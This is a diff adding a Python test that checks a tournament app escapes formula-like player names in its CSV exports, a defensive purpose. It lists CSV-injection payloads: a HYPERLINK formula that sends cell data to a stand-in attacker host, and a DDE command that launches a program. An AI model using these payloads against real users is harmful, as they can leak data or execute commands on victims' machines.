@@ -800,3 +800,44 @@ def test_the_schema_documents_every_tournament_endpoint(anon: APIClient) -> None
     ):
         assert set(paths[prefix + path]["get"]["responses"]["200"]["content"]) == {media}
     assert {"history/", "standings/"} <= {p.removeprefix(prefix) for p in paths}
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+]
+"""Names a spreadsheet would run as formulas (OWASP, "CSV Injection"); ``-2+3`` is also a
+legitimate nickname."""
+
+
+def test_names_that_look_like_formulas_are_text_in_every_csv_and_kept_elsewhere(
+    ana: APIClient, anon: APIClient, capture: Capture
+) -> None:
+    names = [*HOSTILE, *NAMES[:4]]
+    tid = ready(ana, names)
+    tables = paired(ana, tid)["tables"]
+    for table in tables:
+        assert enter_results(ana, capture, table, RESULTS).status_code == 201
+    ana.patch(url(tid, "settings/"), {"downloads_released": True}, format="json")
+
+    # Registered as typed: the API's JSON, the JSON Lines and the standings keep each name.
+    registered = {p["name"] for p in summary(anon, tid)["players"]}
+    assert set(HOSTILE) <= registered
+    lines = anon.get(url(tid, "results.jsonl")).content.decode().splitlines()
+    assert set(HOSTILE) <= {r["name"] for line in lines for r in json.loads(line)["results"]}
+
+    def cells(download: str, column: int) -> list[str]:
+        response = anon.get(url(tid, download))
+        assert response.status_code == 200, response.content
+        table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        return [row[column] for row in table[1:]]
+
+    for download, column in (("standings.csv", 1), ("results.csv", 3)):
+        written = cells(download, column)
+        # Each formula is an apostrophe's text, never a cell that begins like a formula...
+        assert sorted(w for w in written if w.startswith("'")) == sorted(f"'{n}" for n in HOSTILE)
+        assert not [w for w in written if w[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        # ... and every other name is as registered.
+        assert sorted(w for w in written if not w.startswith("'")) == sorted(NAMES[:4])
